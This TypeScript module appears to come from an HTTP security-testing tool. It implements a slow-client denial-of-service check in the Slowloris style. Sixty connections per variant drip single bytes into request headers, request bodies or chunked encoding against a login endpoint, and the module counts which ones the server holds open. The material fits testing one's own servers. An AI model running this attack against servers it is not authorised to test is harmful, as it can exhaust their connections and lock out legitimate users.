import type { Attack } from "../attack.ts";
import { guardProblemDuring } from "../availability.ts";
import { connect } from "../http/wire.ts";
import { ownHost, type Target } from "../target.ts";

const CONNECTIONS = 60;
const DRIP_MS = 400;
/** The server must have closed an unfinished request by then. */
const MAX_HOLD_MS = 20_000;

export const slowBodies: Attack = createSlowBodies(MAX_HOLD_MS);

export function createSlowBodies(maxHoldMs: number): Attack {
  return {
    name: "slow-bodies",
    about: "connections that send one byte at a time, in the headers and in the body",
    meaning: "One slow client can occupy all connections of the server.",
    noun: "connections",
    verb: `were held for ${maxHoldMs / 1_000} seconds, or blocked other clients`,
    needs: ["account", "fresh"],

    async run(target, tally) {
      const openings = Object.entries(openingsFor(target)).flatMap(([what, bytes]) =>
        Array.from({ length: CONNECTIONS }, () => [what, bytes] as const),
      );
      const held = new Map<string, number>();
      const drip = async ([what, bytes]: (typeof openings)[number]): Promise<void> => {
        tally.tried();
        if ((await holds(target, bytes, maxHoldMs)) === "cut") return;
        held.set(what, (held.get(what) ?? 0) + 1);
      };
      const trouble = await guardProblemDuring(target, async () => {
        await Promise.all(openings.map(drip));
      });
      for (const [what, count] of held)
        tally.gotThrough(`${count} connections with ${what} were held`);
      if (trouble !== undefined) tally.gotThrough(trouble);
    },
  };
}

function openingsFor(target: Target): Readonly<Record<string, string>> {
  const { base } = target;
  const host = `Host: ${ownHost(target)}\r\n`;
  const form = "Content-Type: application/x-www-form-urlencoded\r\n";
  return {
    "slow headers": `GET ${base}/login HTTP/1.1\r\n${host}X-Slow: `,
    "a slow body": `POST ${base}/login HTTP/1.1\r\n${host}${form}Content-Length: 60000\r\n\r\nusername=`,
    "slow chunks": `POST ${base}/login HTTP/1.1\r\n${host}${form}Transfer-Encoding: chunked\r\n\r\nffff\r\n`,
    "no data": "",
  };
}

/** Sends bytes slowly until the server closes the connection or the time limit is reached. */
function holds(target: Target, opening: string, maxHoldMs: number): Promise<"held" | "cut"> {
  const { address, signal } = target;
  const socket = connect(address);
  return new Promise((resolve) => {
    const end = (how: "held" | "cut") => (): void => {
      clearTimeout(limit);
      clearInterval(dripping);
      signal?.removeEventListener("abort", giveUp);
      socket.destroy();
      resolve(how);
    };
    const giveUp = end("held");
    const limit = setTimeout(giveUp, maxHoldMs);
    const dripping = setInterval(() => {
      if (opening !== "" && socket.writable) socket.write("x");
    }, DRIP_MS);
    signal?.addEventListener("abort", giveUp);
    // A reset also ends the connection. The data before it must be read, or it is never reported.
    socket.on("error", () => undefined);
    socket.on("close", end("cut"));
    socket.resume();
    socket.write(opening);
  });
}
